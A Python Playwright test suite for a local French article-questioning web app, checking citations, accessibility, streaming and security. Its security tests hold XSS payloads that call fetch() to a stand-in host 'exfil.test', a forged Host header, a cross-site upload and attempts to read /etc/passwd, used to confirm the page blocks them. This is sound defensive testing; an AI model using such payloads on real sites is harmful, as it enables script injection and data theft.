"""The page in a real Chromium: ask, open a citation, rebuild, stop; nothing asked of the outside."""

from __future__ import annotations

import re
from collections.abc import Iterator
from pathlib import Path
from typing import TYPE_CHECKING

import httpx
import pytest

from newsroom import ARTICLES, write_articles
from page_fixtures import App, app, ask, picture, until, visit
from scripted_ollama import ScriptedOllama, answer, silent

if TYPE_CHECKING:
    from playwright.sync_api import Browser, Page

pytestmark = pytest.mark.browser

COST = "Combien a coûté le pont de la Sarelle ?"
TYPOGRAPHY = {
    "typographie.txt": (
        "Le budget de l’école\n\n"
        "Le maire de Fontarel, Élie Nœuvéglise, a déclaré : « L’école coûtera 2\u00a0500\u202f000\u00a0€, "
        "c’est\u00a0«\u202fexceptionnel\u202f» », selon l’agence. Цена школы — Смотрите видео!\n"
    )
}
SCRIPT = "window.hacked = 1; fetch('http://exfil.test/s')"
HOSTILE_TEXT = (
    f'Le pont <img src=x onerror="{SCRIPT}"> de Gravemont ![x](http://exfil.test/p.png) a coûté 12 millions '
    "<form action=http://exfil.test><button>ok</button></form> d'euros </div></mark></section> "
    f"<script>{SCRIPT}</script> [lien](javascript:{SCRIPT}) <style>body{{display:none}}</style> "
    f'<svg onload="{SCRIPT}"><image href=http://exfil.test/i></svg> `code` **gras** '
    "http://exfil.test/auto en 2023.\n"
)


@pytest.fixture(scope="module")
def running(tmp_path_factory: pytest.TempPathFactory) -> Iterator[App]:
    """The page over the made-up articles, without any model."""
    folder = tmp_path_factory.mktemp("page")
    write_articles(folder / "articles", ARTICLES | TYPOGRAPHY)
    with app(folder) as served:
        yield served


def cited(page: Page) -> str:
    """The highlighted words of the reader."""
    page.wait_for_selector("#reader mark")
    return "".join(page.locator("#reader mark").all_inner_texts())


def ready(page: Page) -> None:
    """Waits until the corpus is indexed: a question before that waits too, visibly."""
    page.wait_for_selector("#conversation .example, #conversation .turn", timeout=60_000)


def finished(page: Page) -> None:
    page.wait_for_selector("#conversation .turn [data-action=retry]", timeout=60_000)


def test_a_question_gets_marks_and_a_click_opens_exactly_the_cited_words(
    browser: Browser, running: App
) -> None:
    with visit(browser, running) as seen:
        page = seen.page
        ready(page)
        picture(page, "first-page-fr")
        ask(page, COST)
        finished(page)
        mark = page.locator("#conversation .sentence", has_text="45 millions").locator("button.mark").first
        mark.click()
        assert "45 millions" in cited(page)
        assert cited(page) in ARTICLES["pont.txt"]
        assert page.locator("#reader mark").first.is_visible()
        facts = page.locator("#reader header").inner_text()
        assert "pont.txt" in facts
        assert "inconnue" in facts
        picture(page, "citation-open-fr")
        assert seen.outside(running.url) == []
        assert seen.errors == []


def test_accents_no_break_spaces_curly_quotes_and_cyrillic_are_highlighted_exactly(
    browser: Browser, running: App
) -> None:
    with visit(browser, running) as seen:
        page = seen.page
        ready(page)
        ask(page, "Combien coûtera l'école de Fontarel ?")
        finished(page)
        page.locator("#conversation .sentence", has_text="Nœuvéglise").locator("button.mark").first.click()
        page.wait_for_selector("#reader mark")
        text = page.locator("#reader mark").evaluate_all("all => all.map(one => one.textContent).join('')")
        assert "2\u00a0500\u202f000\u00a0€" in text
        assert text in TYPOGRAPHY["typographie.txt"]


def test_what_the_question_has_wrong_stands_above_the_extracts_and_opens_its_proof(
    browser: Browser, running: App
) -> None:
    with visit(browser, running) as seen:
        page = seen.page
        ready(page)
        ask(page, "Pourquoi le pont de la Sarelle sera-t-il inauguré le 8 mai 2024 par la ministre ?")
        finished(page)
        line = page.locator("#conversation .premise")
        assert "La question dit « 8 mai 2024 » ; le corpus dit « 3 septembre 2024 »" in line.inner_text()
        line.locator("button.mark").click()
        assert "3 septembre 2024" in cited(page)
        picture(page, "premise-fr")


def test_the_verdict_is_a_shape_and_a_word_and_says_why(browser: Browser, running: App) -> None:
    with visit(browser, running) as seen:
        page = seen.page
        ready(page)
        ask(page, COST)
        finished(page)
        verdict = page.locator("#conversation button.verdict").first
        assert re.search(r"✓\s*appuyée", verdict.inner_text())
        why = page.locator("#conversation .why").first
        assert not why.is_visible()
        verdict.click()
        assert why.is_visible()
        assert verdict.get_attribute("aria-expanded") == "true"


def test_the_page_speaks_the_browsers_language_and_switches(browser: Browser, running: App) -> None:
    with visit(browser, running, language="en-GB") as seen:
        page = seen.page
        ready(page)
        page.wait_for_selector("text=Ask your articles a question")
        assert page.evaluate("document.documentElement.lang") == "en"
        page.get_by_role("button", name="Français").click()
        page.wait_for_selector("text=Posez une question à vos articles")
        assert page.locator("#banner .notice").count() == 0, "a model that nobody wants is not missing"


def test_that_ollama_is_away_is_said_once_above_and_once_in_the_answer(
    browser: Browser, tmp_path: Path
) -> None:
    write_articles(tmp_path / "articles")
    with (
        ScriptedOllama() as ollama,
        app(tmp_path, ollama=ollama.url) as served,
        visit(browser, served) as seen,
    ):
        page = seen.page
        ready(page)
        assert page.locator("#banner .notice").count() == 0
        ollama.go_down()
        ask(page, COST)
        finished(page)
        page.wait_for_selector("#banner .notice")
        assert page.locator("#banner .notice").count() == 1
        assert "ollama serve" in page.locator("#banner").inner_text()
        lines = page.locator("#conversation .caveat").all_inner_texts()
        assert len([line for line in lines if "Ollama" in line or "ollama" in line]) == 1, lines
        page.get_by_role("button", name="Corpus et modèles").click()
        page.wait_for_selector("#status >> text=passages")  # the rest is known all the same
        assert "ollama serve" not in page.locator("#panel").inner_text()
        picture(page, "ollama-away-fr")
        ollama.come_up()
        page.get_by_role("button", name="Corpus et modèles").click()
        ask(page, COST)
        page.wait_for_function("() => document.querySelectorAll('#conversation .mode.model').length")
        page.wait_for_selector("#banner .notice", state="detached")


def test_it_works_by_keyboard_alone(browser: Browser, running: App) -> None:
    with visit(browser, running) as seen:
        page = seen.page
        ready(page)
        page.keyboard.type(COST)
        page.keyboard.press("Enter")
        finished(page)
        for _ in range(60):
            page.keyboard.press("Tab")
            if page.evaluate("document.activeElement.classList.contains('mark')"):
                break
        outline = page.evaluate(
            "(s => [s.outlineStyle, s.boxShadow, s.outlineWidth])(getComputedStyle(document.activeElement))"
        )
        assert outline[0] != "none" or outline[1] != "none", "the focused mark cannot be seen"
        page.keyboard.press("Enter")
        page.wait_for_selector("#reader mark")
        page.keyboard.press("Escape")
        page.wait_for_selector("#reader mark", state="detached")
        assert page.evaluate("document.activeElement.classList.contains('mark')"), "focus must come back"


@pytest.mark.parametrize("dark", [False, True], ids=["light", "dark"])
def test_a_narrow_screen_needs_no_sideways_scrolling(browser: Browser, running: App, dark: bool) -> None:
    with visit(browser, running, width=400, dark=dark) as seen:
        page = seen.page
        ready(page)
        ask(page, COST)
        finished(page)
        page.locator("#conversation button.mark").first.click()
        page.wait_for_selector("#reader mark")
        picture(page, f"narrow-{'dark' if dark else 'light'}")
        assert page.evaluate("document.documentElement.scrollWidth") <= 400
        assert page.locator("#reader mark").first.is_visible()
        background = page.evaluate("getComputedStyle(document.body).backgroundColor")
        brightness = sum(map(int, re.findall(r"\d+", background)[:3]))
        assert (brightness < 200) is dark, background


def test_a_refusal_shows_what_was_searched_and_the_nearest_misses(browser: Browser, running: App) -> None:
    with visit(browser, running) as seen:
        page = seen.page
        ready(page)
        ask(page, "Qui dirige la banque centrale du Chili ?")
        finished(page)
        turn = page.locator("#conversation .turn").last
        assert "Chili" in turn.text_content()  # type: ignore[operator]
        assert turn.locator("[data-action=nearest]").count() > 0
        turn.locator("[data-action=nearest]").first.click()
        page.wait_for_selector("#reader .opened")
        picture(page, "refusal-fr")


def test_a_follow_up_shows_the_question_as_understood(browser: Browser, running: App) -> None:
    with visit(browser, running) as seen:
        page = seen.page
        ready(page)
        ask(page, "Quand le pont de la Sarelle sera-t-il inauguré ?")
        finished(page)
        ask(page, "Et combien a-t-il coûté ?")
        page.wait_for_function(
            "document.querySelectorAll('#conversation .turn').length === 2", timeout=60_000
        )
        finished(page)
        last = page.locator("#conversation .turn").last
        assert "Sarelle" in last.inner_text()
        assert "45 millions" in last.inner_text()


def test_rebuild_takes_in_a_new_article(browser: Browser, tmp_path: Path) -> None:
    write_articles(tmp_path / "articles")
    with app(tmp_path) as served, visit(browser, served) as seen:
        page = seen.page
        ready(page)
        (tmp_path / "articles" / "stade.txt").write_text(
            "Le stade d'Esterlac accueillera 18 000 spectateurs.\n", encoding="utf-8"
        )
        page.get_by_role("button", name="Corpus et modèles").click()
        page.click("#rebuild")
        page.wait_for_selector("#report >> text=stade.txt", timeout=60_000)
        picture(page, "rebuild-fr")
        ask(page, "Combien de spectateurs le stade d'Esterlac accueillera-t-il ?")
        page.wait_for_selector("#conversation >> text=18 000 spectateurs", timeout=60_000)


def test_stop_closes_the_models_connection_within_a_second(
    browser: Browser, tmp_path: Path, scripted_ollama: ScriptedOllama
) -> None:
    write_articles(tmp_path / "articles")
    with app(tmp_path, ollama=scripted_ollama.url) as served, visit(browser, served) as seen:
        page = seen.page
        ready(page)
        scripted_ollama.will(silent())
        ask(page, COST)
        assert until(lambda: scripted_ollama.chats, 30)
        page.wait_for_selector("#stop:visible")
        page.click("#stop")
        assert scripted_ollama.chats[-1].wait_closed(1.5)  # a second, and the way of the click to the server
        scripted_ollama.will(answer("Le pont a coûté 45 millions d'euros [1]."))
        page.wait_for_selector("#ask:visible")
        ask(page, COST)
        page.wait_for_selector("#conversation >> text=45 millions", timeout=60_000)
        picture(page, "after-stop-fr")


def test_hostile_articles_and_answers_do_nothing_and_reach_nobody(
    browser: Browser, tmp_path: Path, scripted_ollama: ScriptedOllama
) -> None:
    title = f'Gravemont <img src=x onerror="{SCRIPT}">'
    name = "<img src=x onerror=fetch('http:exfil.test')>.txt"
    write_articles(
        tmp_path / "articles",
        {name: f"{title}\n\n{HOSTILE_TEXT}", "autre.txt": "Le pont de Gravemont est long.\n"},
    )
    scripted_ollama.default = lambda _: answer(
        f"{HOSTILE_TEXT.strip()} [1] <b onclick={SCRIPT}>x</b> [9]", delay=0.01
    )
    with app(tmp_path, ollama=scripted_ollama.url) as served, visit(browser, served) as seen:
        page = seen.page
        ready(page)
        ask(page, f'Combien a coûté le pont de Gravemont ? <img src=x onerror="{SCRIPT}">')
        finished(page)
        page.locator("#conversation button.mark").first.click()
        page.wait_for_selector("#reader .opened")
        picture(page, "hostile-fr")
        page.get_by_role("button", name="Corpus et modèles").click()
        page.click("#rebuild")
        page.wait_for_timeout(1500)
        assert page.evaluate("window.hacked") is None
        assert seen.dialogs == []
        assert seen.outside(served.url) == []
        assert "12 millions" in page.locator("#conversation").inner_text()
        written = page.locator("#conversation, #live, #reader")
        assert (
            written.locator("img, form, script, style, iframe, svg, a[href], object, video, audio").count()
            == 0
        )
        assert page.locator("#conversation button.mark", has_text="9").count() == 0


def test_no_request_leaves_the_machine_by_page_or_process(browser: Browser, running: App) -> None:
    with visit(browser, running) as seen:
        page = seen.page
        ready(page)
        ask(page, COST)
        finished(page)
        page.wait_for_timeout(2000)
        assert seen.outside(running.url) == []
    outside = [
        contact
        for contact in running.contacts
        if not re.search(
            r"'(?:127\.\d+\.\d+\.\d+|localhost|::1|0\.0\.0\.0)'|lookup None|^'/|AF_UNIX", contact
        )
    ]
    assert outside == []
    assert running.contacts, "the watch itself must have seen the server's own loopback check"


def test_other_hosts_sites_and_fetches_on_our_behalf_are_refused(running: App) -> None:
    get = {"trust_env": False, "timeout": 20.0}
    assert httpx.get(running.url, **get).status_code == 200  # type: ignore[arg-type]
    assert httpx.get(running.url, headers={"Host": "evil.test"}, **get).status_code == 400  # type: ignore[arg-type]
    fetched = httpx.get(f"{running.url}/gradio_api/file=http://exfil.test/x", **get)  # type: ignore[arg-type]
    assert fetched.status_code == 403
    posted = httpx.post(
        f"{running.url}/gradio_api/upload",
        files={"files": ("x.txt", b"x")},
        headers={"Origin": "http://evil.test", "Sec-Fetch-Site": "cross-site"},
        **get,  # type: ignore[arg-type]
    )
    assert posted.status_code == 403
    for path in ("file=/etc/passwd", "file=index/ledger.sqlite", "file=articles/pont.txt"):
        assert httpx.get(f"{running.url}/gradio_api/{path}", **get).status_code in {403, 404}  # type: ignore[arg-type]
    headers = httpx.get(running.url, **get).headers  # type: ignore[arg-type]
    assert "default-src 'self'" in headers["content-security-policy"]
    assert headers["x-content-type-options"] == "nosniff"


def test_gradio_server_port_is_honoured_and_a_taken_port_is_said(running: App, tmp_path: Path) -> None:
    import os
    import subprocess
    import sys

    from page_fixtures import ROOT

    port = running.url.rpartition(":")[2]
    write_articles(tmp_path / "articles")
    done = subprocess.run(
        [sys.executable, str(ROOT / "app.py"), "--corpus", "articles", "--index", "index"],
        cwd=tmp_path,
        env=os.environ | {"GRADIO_SERVER_PORT": port, "LANG": "fr_FR.UTF-8"},
        capture_output=True,
        encoding="utf-8",
        timeout=120,
    )
    assert done.returncode == 3
    assert port in done.stderr
    assert "--port" in done.stderr
    assert "Traceback" not in done.stderr


def test_ask_again_edit_copy_and_clear(browser: Browser, running: App) -> None:
    with visit(browser, running) as seen:
        page = seen.page
        page.context.grant_permissions(["clipboard-read", "clipboard-write"], origin=running.url)
        ready(page)
        ask(page, COST)
        finished(page)
        page.click("#conversation [data-action=copy]")
        page.wait_for_selector("text=Copié")
        copied = page.evaluate("navigator.clipboard.readText()")
        assert COST in copied
        assert "45 millions" in copied
        assert "pont.txt" in copied
        assert "[1]" in copied
        page.click("#conversation [data-action=retry]")
        page.wait_for_timeout(500)
        finished(page)
        assert page.locator("#conversation .turn").count() == 1
        page.click("#conversation [data-action=edit]")
        page.wait_for_function(f"document.querySelector('#question textarea').value === {COST!r}")
        page.fill("#question textarea", "Quand le pont de la Sarelle sera-t-il inauguré ?")
        page.press("#question textarea", "Enter")
        # The old answer may name the date too: wait for the new question's own turn.
        page.wait_for_selector("#conversation h2 >> text=inauguré", timeout=60_000)
        page.wait_for_selector("#conversation >> text=3 septembre 2024")
        assert page.locator("#conversation .turn").count() == 1, "an edited question replaces the last one"
        page.click("#clear")
        page.wait_for_selector("#conversation .turn", state="detached")


def test_an_empty_index_is_built_when_the_page_opens_and_a_question_waits_for_it(
    browser: Browser, tmp_path: Path
) -> None:
    many = {f"article{i}.txt": f"Le village numéro {i} compte {i + 1000} habitants.\n" for i in range(60)}
    write_articles(tmp_path / "articles", ARTICLES | many)
    with app(tmp_path) as served, visit(browser, served) as seen:
        ask(seen.page, COST)
        seen.page.wait_for_selector("#conversation >> text=45 millions", timeout=90_000)


def test_an_answer_streams_with_its_wait_its_marks_and_its_verdicts(
    browser: Browser, tmp_path: Path, scripted_ollama: ScriptedOllama
) -> None:
    write_articles(tmp_path / "articles")
    told = "Le pont de la Sarelle a coûté 45 millions d'euros [1]."
    false = "Le roi de Norvège a tout payé avec 12 amis [1]."
    scripted_ollama.default = lambda _: answer(f"{told} {false}", first=1.5, delay=0.15)
    with app(tmp_path, ollama=scripted_ollama.url) as served, visit(browser, served) as seen:
        page = seen.page
        ready(page)
        ask(page, COST)
        page.wait_for_selector("#live .doing >> text=/lit les passages… \\d+ s/")
        picture(page, "waiting-fr")
        # The first sentence is checked, and its source can be opened, while the second still comes.
        page.wait_for_selector("#live .verdict.supported")
        assert page.locator("#stop").is_visible()
        assert "12 amis" not in page.locator("#live").inner_text()
        page.click("#live button.mark")
        page.wait_for_selector("#reader mark")
        assert "45 millions" in cited(page)
        picture(page, "streaming-fr")
        finished(page)
        page.wait_for_selector("#conversation .verdict.unsupported")
        assert page.locator("#live .turn").count() == 0
        page.locator("#conversation .sentence", has_text="Norvège").locator("button.mark").click()
        page.wait_for_selector("#reader >> text=n'est pas appuyée")
        picture(page, "unsupported-fr")


def test_filters_limit_the_search_and_a_wrong_date_is_said_before_any_work(
    browser: Browser, running: App
) -> None:
    with visit(browser, running) as seen:
        page = seen.page
        ready(page)
        page.click("#filters button")
        page.locator("#filters").get_by_label("Publiés depuis").fill("hier")
        ask(page, COST)
        page.wait_for_selector("#hint >> text=année-mois-jour")
        page.locator("#filters").get_by_label("Publiés depuis").fill("2190-01-01")
        ask(page, COST)
        page.wait_for_selector("#conversation .refusal >> text=publiés depuis le 2190-01-01", timeout=60_000)
